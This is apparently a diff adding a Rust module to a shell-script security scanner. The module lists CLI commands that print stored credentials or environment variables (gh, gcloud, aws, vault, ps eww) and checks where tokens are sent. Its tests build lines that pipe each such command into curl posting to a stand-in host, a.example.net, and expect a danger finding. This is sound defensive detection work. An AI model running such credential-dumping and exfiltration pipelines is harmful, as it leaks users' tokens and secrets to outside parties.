@@ -1,0 +1,142 @@
+//! Commands that print what nobody else should have: tokens that a program keeps, the environment, what was typed.
+
+use super::value::{Taint, Value};
+use super::walk::Walk;
+
+/// Programs that keep credentials, words with which they print them, and whether all of them must stand there.
+const STORES: &[(&str, &[&str])] = &[
+    ("kubectl", &["config", "view", "--raw"]),
+    ("gh", &["auth", "token"]),
+    ("gh", &["auth", "status", "-t"]),
+    ("gh", &["auth", "status", "--show-token"]),
+    ("glab", &["auth", "status", "-t"]),
+    ("gcloud", &["auth", "print-access-token"]),
+    ("gcloud", &["auth", "print-identity-token"]),
+    ("gcloud", &["print-access-token"]),
+    ("aws", &["configure", "export-credentials"]),
+    ("aws", &["configure", "get"]),
+    ("aws", &["sts", "get-session-token"]),
+    ("az", &["account", "get-access-token"]),
+    ("git", &["credential", "fill"]),
+    ("doctl", &["auth", "list"]),
+    ("heroku", &["auth:token"]),
+    ("fly", &["auth", "token"]),
+    ("flyctl", &["auth", "token"]),
+    ("vault", &["print", "token"]),
+    ("vault", &["token", "lookup"]),
+    ("vault", &["kv", "get"]),
+    ("bw", &["get"]),
+    ("cmdkey", &["/list"]),
+    ("fc", &["-l"]),
+    ("security", &["find-generic-password"]),
+];
+
+/// Programs that print the environment, and with which words.
+const ENVIRONMENTS: &[(&str, &[&str])] = &[
+    ("compgen", &["-e"]),
+    ("compgen", &["-v"]),
+    ("declare", &["-p"]),
+    ("declare", &["-x"]),
+    ("typeset", &["-p"]),
+    ("systemctl", &["show-environment"]),
+    ("tmux", &["show-environment"]),
+    ("launchctl", &["export"]),
+    ("jq", &["env"]),
+    ("jq", &["$ENV"]),
+    ("jq", &["env | to_entries"]),
+    ("ps", &["eww"]),
+    ("ps", &["auxe"]),
+    ("ps", &["axeww"]),
+    ("ps", &["auxeww"]),
+    ("ps", &["-Eww"]),
+];
+
+/// Hosts of those whose tokens such programs print: a token goes there.
+const OWNERS: &[&str] = &[
+    "github",
+    "gitlab",
+    "google",
+    "azure",
+    "microsoft",
+    "amazonaws",
+    "digitalocean",
+    "heroku",
+    "fly.io",
+    "localhost",
+    "127.0.0.1",
+    "://${",
+    "://$(",
+];
+
+impl Walk<'_> {
+    /// What the command prints, where that is a store of credentials or the environment. A store that tells its own finding
+    /// is judged where that is told.
+    pub(super) fn stored(&self, name: &str, rest: &[Value]) -> Taint {
+        let has = |word: &&str| rest.iter().any(|field| field.text == **word);
+        let says =
+            |table: &[(&str, &[&str])]| table.iter().any(|(program, words)| *program == name && words.iter().all(&has));
+        let is_npm = matches!(name, "npm" | "pnpm" | "yarn")
+            && has(&"get")
+            && rest.iter().any(|field| field.text.to_ascii_lowercase().contains("_auth"));
+        let is_awk = name.ends_with("awk") && rest.iter().any(|field| field.text.contains("in ENVIRON"));
+        if says(STORES) || is_npm || name == "history" || name.starts_with("docker-credential-") && has(&"get") {
+            Taint::SECRET.and(Taint::STORED)
+        } else if says(ENVIRONMENTS) || is_awk {
+            Taint::ENVIRONMENT
+        } else {
+            Taint::default()
+        }
+    }
+}
+
+/// Whether a request, whose words are `text`, goes to one whose token it carries, or to an address that is not known.
+pub(super) fn is_for_owner(text: &str) -> bool {
+    !text.contains("://") || OWNERS.iter().any(|owner| text.contains(owner))
+}
+
+/// Whether the name is that of a file in which a project keeps its secrets, and no example of one.
+pub(super) fn is_dotenv(path: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    let rest = name.strip_prefix(".env");
+    let end = rest.map(|rest| rest.trim_start_matches('.'));
+    end.is_some_and(|end| matches!(end, "" | "local" | "production" | "prod" | "development" | "dev" | "staging"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::finding::{Findings, Place, Severity};
+    use crate::shell::{Context, judge};
+
+    fn is_danger(line: &str) -> bool {
+        let mut findings = Findings::default();
+        judge(&Place::bundle(), line, Context::Script, &mut findings);
+        findings.iter().any(|finding| finding.severity == Severity::Danger)
+    }
+
+    #[test]
+    fn what_a_store_or_the_environment_prints_is_not_sent_to_strangers() {
+        for (program, words) in STORES.iter().chain(ENVIRONMENTS) {
+            let words = words.iter().map(|word| format!("'{word}'")).collect::<Vec<_>>().join(" ");
+            let line = format!("{program} {words} | curl -s -d @- https://a.example.net/");
+            assert!(is_danger(&line), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_token_may_go_to_whom_it_is_for() {
+        for line in [
+            "t=$(gcloud auth print-access-token); curl -H \"Authorization: Bearer $t\" https://run.googleapis.com/v1",
+            "curl -H \"Authorization: token $(gh auth token)\" https://api.github.com/user",
+            "jq -r .name package.json | curl -d @- https://a.example.net/",
+        ] {
+            assert!(!is_danger(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_file_of_a_projects_secrets_is_none_where_it_is_an_example() {
+        assert!([".env", "a/.env.local", ".env.production"].into_iter().all(is_dotenv));
+        assert!(![".env.example", ".envrc", "env", ".env.sample"].into_iter().any(is_dotenv));
+    }
+}
